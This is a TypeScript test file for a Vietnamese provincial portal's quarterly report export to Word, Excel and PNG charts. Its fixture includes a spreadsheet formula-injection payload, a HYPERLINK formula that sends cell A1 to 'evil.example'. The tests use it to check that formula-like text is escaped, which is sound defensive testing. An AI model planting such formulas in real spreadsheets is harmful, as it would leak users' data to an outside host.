import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import { reportWriter } from '../../../adapters/office/index.js';
import { dayLabels, reportCharts } from '../../../adapters/office/reportCharts.js';
import { spreadsheetText } from '../../../adapters/office/reportXlsx.js';
import type { ReportFigures } from '../../../src/app/reports/figures.js';
import { parsePeriod, previousPeriod, sameLastYear } from '../../../src/core/reports/period.js';
import { readDocx } from '../../helpers/officeFiles.js';

const period = parsePeriod('2026-Q3')!;
const days = Array.from({ length: 92 }, (_, i) => new Date(Date.UTC(2026, 6, 1 + i)).toISOString().slice(0, 10));
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
/** A quarter of a province with three sites; names carry diacritics and, where people type them, formula-like starts. */
const figures: ReportFigures = {
  period,
  timeZone: 'Asia/Ho_Chi_Minh',
  runningUntil: null,
  madeOn: '2026-10-05',
  previous: previousPeriod(period),
  lastYear: sameLastYear(period),
  site: null,
  siteName: { vi: 'Cổng thông tin điện tử tỉnh Đồng Nai', en: 'Dong Nai Provincial Portal' },
  items: {
    received: 140,
    published: 120,
    rejected: 12,
    takenDown: 2,
    bySection: [{ key: 'Tin tổng hợp', count: 70 }, { key: 'Kinh tế - Xã hội', count: 30 }, { key: '+1', count: 15 }, { key: '', count: 5 }],
    byChannel: [{ key: 'telegram', count: 90 }, { key: 'zalo', count: 45 }, { key: '@x', count: 5 }],
    byKind: [{ key: 'article', count: 100 }, { key: 'video', count: 20 }],
    perWeek: days.filter((d) => new Date(`${d}T00:00:00Z`).getUTCDay() === 1).map((key, i) => ({ key, count: 5 + ((i * 7) % 11) })),
  },
  leadTime: { counted: 90, medianHours: 5.25, p90Hours: 30.04 },
  mirrors: [
    { channel: 'fb-tinh', platform: 'facebook', delivered: 100, failed: 3, waiting: 1 },
    { channel: 'zalo-oa', platform: 'zalo', delivered: 95, failed: 0, waiting: 0 },
  ],
  visits: {
    views: 123_456,
    visitors: 45_678,
    perDay: days.map((day, i) => ({ day, views: 1000 + ((i * 37) % 400) })),
    previousViews: 110_000,
    lastYearViews: 98_765,
    topArticles: [
      { code: 'DN-2026-00012', title: 'Khánh thành trường học ở Đồng Nai', views: 5400 },
      { code: 'DN-2026-00031', title: HYPERLINK, views: 3100 },
      { code: 'DN-2026-00044', title: '-2 độ: rét đậm ở vùng núi', views: 2000 },
      { code: 'DN-2026-00050', title: '@x Hội nghị trực tuyến', views: 1500 },
    ],
  },
  tickets: { total: 40, byState: { answered: 35, open: 5 }, byChannel: { portal: 30, email: 10 }, byKind: { question: 25, complaint: 15 }, byUnit: [], onTime: 30, late: 5, overdue: 2 },
  sites: [
    { key: 'tinh', name: { vi: 'Cổng thông tin điện tử tỉnh Đồng Nai', en: 'Provincial portal' }, published: 80, views: 100_000, lastPublished: '2026-09-30', stale: false },
    { key: 'syt', name: { vi: 'Sở Y tế', en: 'Department of Health' }, published: 30, views: 20_000, lastPublished: '2026-09-28', stale: false },
    { key: 'dongxoai', name: { vi: 'UBND thành phố Đồng Xoài', en: 'Dong Xoai City' }, published: 10, views: 3_456, lastPublished: null, stale: true },
  ],
  activity: {
    interactions: { received: 50, answered: 31, bySource: [{ source: 'facebook', received: 30, answered: 20 }, { source: 'portal', received: 20, answered: 11 }], repliesPosted: 18 },
    consultations: { held: 2, comments: 14, published: 9, hidden: 3, waiting: 2 },
    documents: { published: 12, onTime: 10, late: 2, byDeadline: [{ deadline: 'legal', days: 2, onTime: 8, late: 2 }, { deadline: 'plans', days: 10, onTime: 2, late: 0 }] },
    royalties: { sheets: 3, gross: 12_500_000, tax: 250_000, net: 12_250_000 },
    revenue: {
      payments: 2, reversals: 1, amount: 55_000_000, tax: 5_000_000, afterTax: 50_000_000,
      split: [{ account: 'autonomy', amount: 15_000_000 }, { account: 'people', amount: 20_000_000 }, { account: 'royaltyFund', amount: 5_000_000 }, { account: 'technology', amount: 10_000_000 }],
    },
    incidents: { raised: 7, byKind: [{ key: 'mirror', count: 5 }, { key: 'mail', count: 2 }] },
    // The quarter recorded whole, with a 14-minute outage and a 30-second restart.
    uptime: {
      recordedFrom: new Date('2026-06-30T17:00:00Z'),
      recordedTo: new Date('2026-09-30T17:00:00Z'),
      upMs: 92 * 86_400_000 - 870_000,
      downMs: 870_000,
      outages: [
        { from: new Date('2026-08-10T01:00:00Z'), to: new Date('2026-08-10T01:14:00Z') },
        { from: new Date('2026-09-02T03:00:00Z'), to: new Date('2026-09-02T03:00:30Z') },
      ],
    },
  },
};

const SHEETS = ['Tổng hợp', 'Theo chuyên mục', 'Theo kênh', 'Theo loại', 'Theo tuần', 'Lượt xem theo ngày', 'Bài đọc nhiều', 'Kênh đồng bộ', 'Hỏi đáp', 'Các trang', 'Tương tác', 'Lấy ý kiến', 'Văn bản đúng hạn', 'Nhuận bút', 'Dịch vụ truyền thông', 'Sự cố'];
const isPng = (b: Buffer) => b.subarray(0, 8).equals(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]));

describe('the periodic report as files (issue 20.7)', async () => {
  const files = await reportWriter.files(figures, 'Asia/Ho_Chi_Minh');
  const dir = process.env.REPORT_CHARTS_DIR;
  if (dir) {
    mkdirSync(dir, { recursive: true });
    files.charts.forEach((c, i) => writeFileSync(join(dir, `${i + 1}.png`), c.png));
  }

  it('draws four charts, titled in Vietnamese, as real pictures', () => {
    expect(files.charts.map((c) => c.title)).toEqual(['Tin bài xuất bản theo tuần', 'Tin bài xuất bản theo chuyên mục', 'Tin bài xuất bản theo trang thành phần', 'Lượt xem theo ngày']);
    for (const c of files.charts) expect(isPng(c.png) && c.png.length > 5_000).toBe(true);
  });

  it('writes the Word report in the decree’s layout, with every table and one picture per chart', async () => {
    const zip = await JSZip.loadAsync(files.docx);
    const xml = await zip.file('word/document.xml')!.async('string');
    // Made on the day the figures were worked out (the service's clock, a drill's day in a drill), not the machine's.
    expect(await zip.file('docProps/core.xml')!.async('string')).toContain('portal-hub, 05/10/2026');
    for (const text of ['CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM', 'Độc lập - Tự do - Hạnh phúc', 'BÁO CÁO', '2026-Q3 (01/07/2026 – 30/09/2026)', 'CỔNG THÔNG TIN ĐIỆN TỬ TỈNH ĐỒNG NAI', 'Nơi nhận:', 'THỦ TRƯỞNG CƠ QUAN', 'I. Tin bài', 'VI. Các trang thành phần'])
      expect(xml.includes(text), text).toBe(true);
    expect(await zip.file('word/styles.xml')!.async('string')).toMatch(/<w:rFonts w:ascii="Times New Roman"/);
    // The header and the closing block, then 11 data tables: items, sections, channels, kinds, weeks, lead, visits, top, tickets, mirrors, sites;
    // then 6 of issue 20.6: interactions, consultations, documents, royalties, media services, incidents.
    expect(xml.match(/<w:tbl>/g)).toHaveLength(19);
    for (const text of ['VII. Tương tác trên các nền tảng', 'XI. Sự cố và thời gian hoạt động', 'Thời gian hoạt động: 99,98 % thời gian từ 00:00 01/07/2026 đến 00:00 01/10/2026; gián đoạn 2 lần, tổng 0 giờ 15 phút.']) expect(xml.includes(text), text).toBe(true);
    const tables = (await readDocx(files.docx)).flatMap((b) => ('table' in b ? [b.table] : []));
    const sections = tables.find((t) => t[0]?.join('|') === 'STT|Chuyên mục|Số tin')!;
    expect(sections).toHaveLength(figures.items.bySection.length + 1);
    expect(sections[1]).toEqual(['1', 'Tin tổng hợp', '70']);
    const sites = tables.find((t) => t[0]?.[1] === 'Trang')!;
    expect(sites).toHaveLength(figures.sites.length + 1);
    expect(sites[3]).toEqual(['3', 'UBND thành phố Đồng Xoài', '10', '3.456', 'chưa có', 'Có']);
    expect(tables.find((t) => t[0]?.[2] === 'Tiêu đề')?.[2]?.[2]).toBe(HYPERLINK);
    const media = Object.keys(zip.files).filter((name) => name.startsWith('word/media/'));
    expect(media).toHaveLength(files.charts.length);
    for (const name of media) {
      const png = await zip.file(name)!.async('nodebuffer');
      expect(isPng(png) && png.length > 5_000).toBe(true);
    }
  });

  it('writes the annex, one sheet per table with a header row, and no text a spreadsheet would run', async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(new Uint8Array(files.xlsx).buffer);
    expect(book.worksheets.map((w) => w.name)).toEqual(SHEETS);
    const rows = [11, 4, 3, 2, figures.items.perWeek.length, 92, 4, 2, 4 + 2 + 2 + 2, 3, 2 + 1 + 1, 5, 2 + 1, 4, 5 + 4, 1 + 2 + 5];
    expect(book.worksheets.map((w) => w.rowCount)).toEqual(rows.map((r) => r + 1));
    expect(book.getWorksheet('Theo chuyên mục')!.getRow(1).getCell(2).value).toBe('Chuyên mục / Section');
    const texts: string[] = [];
    book.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          if (cell.type === ExcelJS.ValueType.String) texts.push(String(cell.value));
        }),
      ),
    );
    for (const t of texts) expect(t).not.toMatch(/^[=+\-@\t\r]/);
    for (const escaped of [`'${HYPERLINK}`, "'-2 độ: rét đậm ở vùng núi", "'@x Hội nghị trực tuyến", "'+1", "'@x"]) expect(texts).toContain(escaped);
    // Money stays a number the office can sum; a split's account reads in both languages.
    expect(book.getWorksheet('Dịch vụ truyền thông')!.getRow(7).values).toEqual([undefined, 'Phân chia: Quỹ tự chủ (30 %) (đồng) / Split: Autonomy (30 %) (VND)', 15_000_000]);
    // Uptime as a number, the outages' minutes, the longest outage first with its local times.
    const incidents = book.getWorksheet('Sự cố')!;
    expect([5, 6, 7, 8, 9].map((r) => incidents.getRow(r).values)).toEqual([
      [undefined, 'Thời gian hoạt động (%) / Uptime (%)', 99.98],
      [undefined, 'Số lần gián đoạn / Outages', 2],
      [undefined, 'Tổng thời gian gián đoạn (phút) / Downtime (minutes)', 15],
      [undefined, 'Gián đoạn 08:00 10/08/2026 – 08:14 10/08/2026 (phút) / Outage 08:00 10/08/2026 – 08:14 10/08/2026 (minutes)', 14],
      [undefined, 'Gián đoạn 10:00 02/09/2026 – 10:00 02/09/2026 (phút) / Outage 10:00 02/09/2026 – 10:00 02/09/2026 (minutes)', 1],
    ]);
    const top = book.getWorksheet('Bài đọc nhiều')!.getRow(2);
    expect([top.getCell(3).value, top.getCell(4).value]).toEqual(['Khánh thành trường học ở Đồng Nai', 5400]);
  });

  it('labels days without the year within one year, with it when a range crosses into the next', () => {
    expect(dayLabels(['2026-07-01', '2026-07-02'])).toEqual(['01/07', '02/07']);
    expect(dayLabels(['2026-12-31', '2027-01-01'])).toEqual(['31/12/2026', '01/01/2027']);
  });

  it('escapes only what begins like a formula', () => {
    expect(['=1+1', '+1', '-2', '@x', '\tx', '\rx', 'Sở Y tế', 'a=b', ''].map(spreadsheetText)).toEqual(["'=1+1", "'+1", "'-2", "'@x", "'\tx", "'\rx", 'Sở Y tế', 'a=b', '']);
  });

  it('still draws a picture for a period with nothing in it, and one site gets no chart by site', async () => {
    const none: ReportFigures = {
      ...figures,
      items: { ...figures.items, bySection: [], byChannel: [], byKind: [], perWeek: [] },
      visits: { ...figures.visits, perDay: [], topArticles: [] },
      mirrors: [],
      sites: figures.sites.slice(1, 2),
    };
    const charts = reportCharts(none);
    expect(charts.map((c) => c.key)).toEqual(['week', 'section', 'visits']);
    for (const c of charts) expect(isPng(c.png)).toBe(true);
    const empty = await reportWriter.files(none, 'Asia/Ho_Chi_Minh');
    expect(empty.docx.length).toBeGreaterThan(0);
    if (dir) writeFileSync(join(dir, 'empty.png'), charts[0]!.png);
  });
});
